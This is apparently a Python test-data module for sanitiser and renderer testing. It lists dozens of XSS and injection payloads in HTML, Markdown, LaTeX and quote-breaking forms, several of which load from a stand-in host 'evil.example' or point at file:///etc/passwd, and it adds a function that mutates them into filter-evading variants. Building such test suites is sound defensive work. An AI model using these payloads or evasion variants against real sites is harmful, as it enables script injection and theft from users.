"""Texts that try to run a script, load something, or take over a page: for tests of all that shows text of others.

PAYLOADS is the short list, in which each kind of trick stands once or twice; many(n) makes variants of them. A script
that ran would set window.ran or ask for /ran: tests look for both.
"""

from __future__ import annotations

import itertools
import random

SCRIPT = "window.ran=1"
PLACE = "//evil.example/ran"

TAGS = [
    f"<script>{SCRIPT}</script>",
    f"<script src={PLACE}></script>",
    f"<img src=x onerror={SCRIPT}>",
    f"<img src={PLACE}>",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{SCRIPT}><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>"
    f"<image onerror={SCRIPT} href=1 /></svg>#x'>",
    f"<body onload={SCRIPT}>",
    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{SCRIPT}></iframe>",
    f"<iframe src={PLACE}></iframe>",
    f"<object data=javascript:{SCRIPT}></object>",
    f"<object data={PLACE}></object>",
    f"<embed src={PLACE}>",
    f"<video src=x onerror={SCRIPT}></video>",
    f"<video poster={PLACE}></video>",
    f"<audio src={PLACE} autoplay></audio>",
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<select autofocus onfocus={SCRIPT}></select>",
    f"<textarea autofocus onfocus={SCRIPT}></textarea>",
    f"<marquee onstart={SCRIPT}>x</marquee>",
    f"<a href=javascript:{SCRIPT} id=x>x</a>",
    f"<a href='java&#10;script:{SCRIPT}'>x</a>",
    f"<a href='&#106;avascript:{SCRIPT}'>x</a>",
    f"<form action=javascript:{SCRIPT}><button>x</button></form>",
    f"<form action={PLACE} method=post><input name=q><button>x</button></form>",
    f"<button formaction=javascript:{SCRIPT}>x</button>",
    f"<link rel=stylesheet href={PLACE}>",
    f"<link rel=prefetch href={PLACE}>",
    f"<link rel=preconnect href={PLACE}>",
    f"<style>@import '{PLACE}';</style>",
    f"<style>body{{background:url({PLACE})}}</style>",
    f"<p style='background:url({PLACE})'>x</p>",
    f"<table background={PLACE}><tr><td>x</td></tr></table>",
    f"<meta http-equiv=refresh content='0;url={PLACE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SCRIPT}'>",
    f"<base href={PLACE}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{SCRIPT}>x</math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={SCRIPT}></annotation-xml></math>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<template><img src=x onerror={SCRIPT}></template>",
    f"<xmp><p title='</xmp><img src=x onerror={SCRIPT}>'>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<!--><script>{SCRIPT}</script-->",
    f"<![CDATA[<img src=x onerror={SCRIPT}>]]>",
    f"<?xml version=1?><img src=x onerror={SCRIPT}>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</title><script>{SCRIPT}</script>",
    f"</style><img src=x onerror={SCRIPT}>",
    f"</script><script>{SCRIPT}</script>",
    f"<portal src={PLACE}></portal>",
    f"<x contenteditable onblur={SCRIPT}>x</x>",
    f"<div popover id=p onbeforetoggle={SCRIPT}>x</div><button popovertarget=p>x</button>",
    f"<dialog open onclose={SCRIPT}>x</dialog>",
    f"<frameset onload={SCRIPT}><frame src=javascript:{SCRIPT}></frameset>",
    f"<isindex type=image src=1 onerror={SCRIPT}>",
]
LINKS = [
    f"[x](javascript:{SCRIPT})",
    f"[x](JaVaScRiPt:{SCRIPT})",
    f"[x](java\tscript:{SCRIPT})",
    f"[x](&#106;avascript:{SCRIPT})",
    f"[x](javascript&colon;{SCRIPT})",
    f"[x](<javascript:{SCRIPT}>)",
    f"[x]( javascript:{SCRIPT})",
    f"[x](\x01javascript:{SCRIPT})",
    f"[x](vbscript:{SCRIPT})",
    f"[x](data:text/html,<script>{SCRIPT}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    f"[x](blob:{PLACE})",
    "[x](file:///etc/passwd)",
    f"[x][y]\n\n[y]: javascript:{SCRIPT}",
    f"<javascript:{SCRIPT}>",
    f"![x]({PLACE})",
    f"![x](https:{PLACE})",
    f"![x](javascript:{SCRIPT})",
    f'![x](x "onerror={SCRIPT}")',
    f"![x\" onerror=\"{SCRIPT}](x)",
    f'[x](https://a.example "title\' onmouseover=\'{SCRIPT}")',
    f"[x](https://a.example\" onmouseover=\"{SCRIPT})",
    f"https://a.example/\"onmouseover={SCRIPT}//",
    f"[![x](x)](javascript:{SCRIPT})",
    f"[<img src=x onerror={SCRIPT}>](https://a.example)",
    f"[1](javascript:{SCRIPT})",
    f"[1]: javascript:{SCRIPT}",
    f"[a]: {PLACE} '<img src=x onerror={SCRIPT}>'\n\n[a]",
]
FORMULAS = [
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
    f"$\\text{{<img src=x onerror={SCRIPT}>}}$",
    f"$\\mathrm{{<script>{SCRIPT}</script>}}$",
    f"$\\style{{background:url({PLACE})}}{{x}}$",
    f"$\\class{{\" onclick=\"{SCRIPT}}}{{x}}$",
    f"$\\color{{red\" onclick=\"{SCRIPT}}}{{x}}$",
    f"$\\hspace{{1em\" onclick=\"{SCRIPT}}}$",
    f"$\\includegraphics{{{PLACE}}}$",
    f"$\\unicode{{x3c}}script\\unicode{{x3e}}{SCRIPT}$",
    f"$$</math><img src=x onerror={SCRIPT}>$$",
    f"$</mtext></math><svg onload={SCRIPT}>$",
    f"\\(\\text{{</mtext><script>{SCRIPT}</script>}}\\)",
    f"\\[\\begin{{array}}{{\" onload=\"{SCRIPT}}}x\\end{{array}}\\]",
]
QUOTES = [
    f'"><script>{SCRIPT}</script>',
    f"'><img src=x onerror={SCRIPT}>",
    f'" autofocus onfocus="{SCRIPT}',
    f"' onmouseover='{SCRIPT}",
    f"`onerror={SCRIPT}`",
    f"```html\n<script>{SCRIPT}</script>\n```",
    f"```\"><img src=x onerror={SCRIPT}>\nx\n```",
    f"```js onload={SCRIPT}\nx\n```",
    f"`<img src=x onerror={SCRIPT}>`",
    f"${{{SCRIPT}}}",
    f"{{{{constructor.constructor('{SCRIPT}')()}}}}",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;img src=x onerror={SCRIPT}&#62;",
    f"\\u003cscript\\u003e{SCRIPT}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{SCRIPT}\\x3c/script\\x3e",
    f"%3Cscript%3E{SCRIPT}%3C/script%3E",
    f"＜script＞{SCRIPT}＜/script＞",
    f"<scr\x00ipt>{SCRIPT}</scr\x00ipt>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<<script>{SCRIPT}//<</script>",
    f"<img/src=x/onerror={SCRIPT}//",
    f"<img src=x onerror={SCRIPT} ",
    f"<IMG SRC=x ONERROR={SCRIPT}>",
    f"<img src=x one\u202error={SCRIPT}>",
    f"<div id=app><a name=cookie><form id=policy><input name=innerHTML>{SCRIPT}</form></div>",
    f"\r\n\r\ndata: {{\"type\":\"html\",\"html\":\"<img src=x onerror={SCRIPT}>\"}}\r\n\r\n",
    f"</div></main></body><script>{SCRIPT}</script>",
    f"|<img src=x onerror={SCRIPT}>|\n|---|\n|<script>{SCRIPT}</script>|",
    f"> <details open ontoggle={SCRIPT}>\n> x",
    f"- <svg onload={SCRIPT}>\n- x",
    f"# <img src=x onerror={SCRIPT}>",
    f"~~<img src=x onerror={SCRIPT}>~~ **<svg onload={SCRIPT}>**",
]
PAYLOADS = [*TAGS, *LINKS, *FORMULAS, *QUOTES]


def many(n: int, seed: int = 0) -> list[str]:
    """n different payloads: the short list first, then variants of case, white space, wrapping and joining."""
    draw = random.Random(seed)
    found = dict.fromkeys(PAYLOADS)
    for i in itertools.count():
        if len(found) >= n:
            return list(found)[:n]
        text = PAYLOADS[i % len(PAYLOADS)]
        for _ in range(draw.randint(1, 3)):
            text = draw.choice(VARIANTS)(text, draw)
        found[text] = None
    raise AssertionError


VARIANTS = [
    lambda text, draw: "".join(c.upper() if draw.random() < 0.5 else c for c in text),
    lambda text, draw: text.replace(" ", draw.choice(["/", "\t", "\n", "\x0c", "  "])),
    lambda text, draw: text.replace("<", draw.choice(["<<", "< ", "<\x00", "&lt;<"]), 1),
    lambda text, draw: text.replace("=", draw.choice([" = ", "=\"", "='", "=&#x20;"]), 1),
    lambda text, draw: text.replace(">", draw.choice(["", " >", "/>", ">>"]), 1),
    lambda text, draw: draw.choice(["**{}**", "> {}", "- {}", "1. {}", "# {}", "`{}", "[{}](https://a.example)",
        "| {} |\n|---|",
                                    "${}$", "$$\n{}\n$$", "```html\n{}\n```", "```\n{}", "<p>{}</p>", "<div>{}",
                                    "<math>{}",
                                    "<svg>{}", "<!-- {} -->", "\\[{}\\]", "![{}](x)",
                                    "<a href=\"{}\">"]).replace("{}", text),
    lambda text, draw: text + draw.choice(PAYLOADS),
    lambda text, draw: "".join(f"&#{ord(c)};" if draw.random() < 0.15 else c for c in text),
    lambda text, draw: text[: draw.randint(1, len(text))],
    lambda text, draw: text + draw.choice(["\u202e", "\u200b", "\ufeff", "\x00", "\u2028", "\ud83d"]) + text,
]
